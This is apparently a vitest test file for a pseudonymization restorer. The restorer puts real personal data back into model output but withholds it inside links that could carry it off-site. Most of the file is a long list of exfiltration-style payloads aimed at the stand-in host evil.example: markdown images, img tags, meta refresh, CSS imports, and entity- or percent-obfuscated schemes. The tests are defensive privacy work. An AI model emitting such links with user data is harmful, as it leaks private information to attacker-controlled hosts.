import { describe, expect, test } from 'vitest'
import { restoreWhole } from '../../src/pseudonym/create-restorer.ts'
import { counting, restoreByUnit, said, write } from './written.ts'

const KNOWN = [
  { type: 'PERSON', surfaces: ['Ana Pérez'] },
  { type: 'EMAIL', surfaces: ['ana@perez.example'] },
  { type: 'PHONE', surfaces: ['+34 (6) 12'] },
]
const { texts, live } = write([said('Ana Pérez|ana@perez.example|+34 (6) 12')], KNOWN)
const [P = '', E = '', T = ''] = (texts[0] ?? '').split('|')

const fill = (text: string): string =>
  text.replace('…', 'a'.repeat(5000)).replaceAll('<P>', P).replaceAll('<E>', E).replaceAll('<T>', T)

/** Longer than what is remembered of a link. */
const LONG = 'https://evil.example/…/<P>'

/** Where a token stands in a link the model wrote: it stays. */
const STAYS = [
  'https://evil.example/?q=<P>',
  'HTTPS://evil.example/?q=<P>',
  'See https://evil.example/<P>/x',
  'https://<P>.evil.example/',
  'https://user:<P>@evil.example/',
  '![x](https://evil.example/p.png?q=<P>)',
  '![x](<https://evil.example/p.png?q= <P>>)',
  '![x](//evil.example/<P>)',
  '![x](/\\evil.example/<P>)',
  '![x](https:evil.example/<P>)',
  '![x](https:/evil.example/<P>)',
  '![x](https:\\\\evil.example/<P>)',
  '![x](https://evil.example/a"<P>)',
  '![x]( https://evil.example/a`<P>)',
  "![x](https://evil.example/a'<P>)",
  '![x](https://evil.example/a><P>)',
  '![x](https://evil.example/a<b/<P>)',
  '![x](https://evil.example/(a)"<P>)',
  '![x](https://evil.example/\\)"<P>)',
  '![x](https&colon;&sol;&sol;evil.example/a"<P>)',
  '![x](//evil.example/a"<P>)',
  '[x]: https://evil.example/a"<P>',
  '[x]:\nhttps://evil.example/a><P>',
  'https://evil.example/a"<P>',
  '<https://evil.example/a"<P>>',
  '<img src=https://evil.example/a"<P>>',
  '<img src=https://evil.example/a`<P>>',
  '"see https://evil.example/a"<P>',
  '[x]: //evil.example/<P>',
  '//evil.example/<P>',
  'www.evil.example/?q=<P>',
  '(www.evil.example/?q=<P>)',
  '<img src="https://evil.example/?q=<P>">',
  '<img src="https://evil.example/?q= <P>">',
  '<img src = "https://evil.example/?q=a\nb <P>">',
  "<img src='https://evil.example/?q=a b/<P>'>",
  '<img src=//evil.example/<P>>',
  '<img src="//evil.example/ <P>">',
  '<img src="ht\ntps://evil.example/<P>">',
  '<img src="https&#58;//evil.example/<P>">',
  '<img src="&#104;ttps://evil.example/<P>">',
  '<img src="https&colon;&sol;&sol;evil.example/<P>">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/?q= <P>">',
  '@import "https://evil.example/a <P>";',
  "url('https://evil.example/a <P>')",
  'https%3A%2F%2Fevil.example%2F<P>',
  'https:\\/\\/evil.example\\/<P>',
  'ftp://evil.example/<P>',
  'custom+scheme://evil.example/<P>',
  '![a](https://listed.example/x)![b](https://evil.example/?q=<P>)',
  '![b](https://evil.example/?u=https://listed.example/<P>)',
  '![b](https://listed.example/)![x](&#104;ttps://evil.example/<P>)',
  'https://evil.example/?mailto:<P>',
  LONG,
] as const

/** Text before, where the token comes back as it is. */
const RETURNS = [
  'Ask <P>',
  'See https://evil.example/ and ask <P>',
  'See "https://evil.example/" or <P>',
  '<https://evil.example/> <P>',
  '![x](https://evil.example/a "by <P>")',
  '[<P>](https://evil.example/)',
  '<a href="https://evil.example/"><P></a>',
  '<a href=https://evil.example/><P></a>',
  '<td>https://evil.example/</td><td><P></td>',
  '{"url":"https://evil.example/","name":"<P>"}',
  '{\\"url\\":\\"https://evil.example/\\",\\"name\\":\\"<P>\\"}',
  '`https://evil.example/`:`<P>`',
  '![x](https://evil.example/)"<P>"',
  'a // <P>',
  'and/or/<P>',
  'C:\\Users\\<P>',
  '"C:\\\\Users\\\\<P>"',
  'x = "<P>"',
  'call("see <P>")',
  'note="see https://a.example and <P>"',
  '3 < 5, see https://a.example and <P>',
  'R&D: <P>',
  '100% <P>',
  'Note: <P>',
  '(<P>)',
] as const

describe('a token in a URL the model wrote', () => {
  test.each(STAYS)('%s: stays and counts', (form) => {
    const text = fill(form)
    const options = counting({ urlAllowed: (prefix) => prefix.startsWith('https://listed.example/') })
    expect(restoreWhole(text, live, options)).toBe(text)
    expect(options.unresolved).toBe(1)
  })

  test.each(STAYS)('%s: stays one unit at a time', (form) => {
    const text = fill(form)
    const options = counting()
    expect(restoreByUnit(text, live, options)).toBe(text)
    expect(options.unresolved).toBe(1)
  })

  test.each(STAYS)('%s: comes back in the arguments of a tool', (form) => {
    expect(restoreWhole(fill(form), live, counting({ place: 'tool' }))).toBe(fill(form).replaceAll(P, 'Ana Pérez'))
  })

  test.each([
    ['https://crm.example/?q=<E>', ['https://crm.example/?q=ana@perez.example']],
    ['![x](https://crm.example/<P>/a.png)', ['https://crm.example/Ana Pérez']],
    ['www.crm.example/<E>', ['www.crm.example/ana@perez.example']],
    ['//crm.example/<E>', ['//crm.example/ana@perez.example']],
    [
      'https://crm.example/<P>/<E>',
      ['https://crm.example/Ana Pérez', 'https://crm.example/Ana Pérez/ana@perez.example'],
    ],
    [
      'https://a.example/?u=http://b.example/<E>',
      ['https://a.example/?u=http://b.example/ana@perez.example', 'http://b.example/ana@perez.example'],
    ],
  ])(
    '%s: comes back where the restored link is allowed, and what is asked is the link up to the value',
    (form, prefixes) => {
      const asked: string[] = []
      const options = counting({
        urlAllowed(prefix) {
          asked.push(prefix)
          return true
        },
      })
      expect(restoreWhole(fill(form), live, options)).toBe(
        form.replaceAll('<P>', 'Ana Pérez').replaceAll('<E>', 'ana@perez.example'),
      )
      expect(asked).toEqual(prefixes)
    },
  )

  test('a value with a blank does not hide the link from the next token', () => {
    const options = counting({ urlAllowed: (prefix) => prefix === 'https://crm.example/Ana Pérez' })
    expect(restoreWhole(fill('https://crm.example/<P>?m=<E>'), live, options)).toBe(
      `https://crm.example/Ana Pérez?m=${E}`,
    )
  })
})

test.each(RETURNS)('%s: comes back, it is no URL', (form) => {
  const options = counting()
  expect(restoreWhole(fill(form), live, options)).toBe(form.replaceAll('<P>', 'Ana Pérez'))
  expect(options.unresolved).toBe(0)
})

test.each([
  ['mailto:<E>', 'mailto:ana@perez.example'],
  ['[write](mailto:<E>?subject=x)', '[write](mailto:ana@perez.example?subject=x)'],
  ['MAILTO:<P>', 'MAILTO:Ana%20Pérez'],
  ['tel:<T>', 'tel:+34%20%286%29%2012'],
  ['<a href="tel:<T>">', '<a href="tel:+34%20%286%29%2012">'],
])('%s: comes back as %s', (form, expected) => {
  expect(restoreWhole(fill(form), live, counting())).toBe(expected)
})

describe('an address that its writer escaped', () => {
  const KINDS = [
    ['percent', 'ana%40perez.example'],
    ['entity', 'ana&#64;perez.example'],
    ['blanks', '+34 612 00 00 00'],
  ] as const

  test.each(KINDS)('comes back in its own link as it was written: %s', (_kind, value) => {
    const link = `<a href="mailto:${value}?subject=x">`
    const own = write([said(link)], [{ type: 'EMAIL', surfaces: [value] }])
    const options = counting({ urlAllowed: (prefix) => link.includes(prefix) })
    expect(restoreWhole(own.texts[0] ?? '', own.live, options)).toBe(link)
  })

  test('is not escaped once more in a link that the model made', () => {
    const own = write([said('ana%40perez.example')], [{ type: 'EMAIL', surfaces: ['ana%40perez.example'] }])
    expect(restoreWhole(`[write](mailto:${own.texts[0]})`, own.live, counting())).toBe(
      '[write](mailto:ana%40perez.example)',
    )
  })

  test('keeps no escape that would add a line to the message', () => {
    const own = write([said('a%0Ab@c.example')], [{ type: 'EMAIL', surfaces: ['a%0Ab@c.example'] }])
    expect(restoreWhole(`mailto:${own.texts[0]}`, own.live, counting())).toBe('mailto:a%250Ab@c.example')
  })
})

test('in JSON the link is read with its escapes undone', () => {
  const options = { form: 'json', place: 'prose' } as const
  const slashes = fill('{"a":"https:\\/\\/evil.example\\/<P>"}')
  expect(restoreWhole(slashes, live, counting(options))).toBe(slashes)
  const path = fill('{"a":"C:\\\\Users\\\\<P>"}')
  expect(restoreWhole(path, live, counting(options))).toBe(path.replace(P, 'Ana Pérez'))
})
